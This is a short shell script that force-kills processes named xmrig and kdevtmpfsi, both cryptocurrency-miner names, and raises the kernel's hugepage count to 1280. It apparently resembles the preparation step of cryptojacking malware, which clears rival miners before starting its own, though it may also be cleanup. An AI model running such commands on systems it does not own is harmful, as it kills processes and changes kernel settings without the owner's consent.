#!/bin/sh
pkill -f xmrig
ps aux | grep -v grep | grep kdevtmpfsi | awk '{print $2}' | xargs kill -9
sysctl -w vm.nr_hugepages=1280
